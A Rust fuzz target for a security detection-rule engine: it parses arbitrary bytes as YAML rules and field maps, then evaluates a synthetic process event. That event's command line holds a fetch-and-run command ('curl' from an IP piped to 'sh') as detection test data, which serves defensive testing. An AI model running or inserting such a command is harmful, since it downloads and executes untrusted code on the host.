//! Rule files: any bytes either load or are refused, and what loads can be evaluated.
#![no_main]

use hinomi_detect::{Engine, Examples, FieldMap, LogEngine, LogOptions, RuleSource, content};
use hinomi_model::{Event, Table, Timestamp};
use libfuzzer_sys::fuzz_target;

fuzz_target!(|bytes: &[u8]| {
    let yaml = String::from_utf8_lossy(bytes).into_owned();
    let _ = FieldMap::parse("fields.yml", &yaml);
    let _ = Examples::parse("rule.test.yml", &yaml);
    let source = RuleSource { path: "rule.yml".to_owned(), yaml };
    let sources = [source];
    let (logs, _) = LogEngine::load(&sources, &LogOptions::default());
    logs.kind_where(|_| true);
    let (engine, errors) = Engine::load(&sources, &content::embedded().fields);
    for error in errors {
        assert!(error.line >= 1 && error.column >= 1);
        let _ = error.to_string();
    }
    let mut event = Event::new(Table::DeviceProcessEvents, Timestamp::from_micros(0));
    event.set("ActionType", "ProcessCreated").set("FolderPath", "/usr/bin/bash");
    event.set("ProcessCommandLine", "bash -c 'curl http://203.0.113.1/a | sh'");
    event.set("AdditionalFields", r#"{"Argv":["bash","-c"],"ScriptPath":"/tmp/x"}"#);
    engine.evaluate(&event);
});
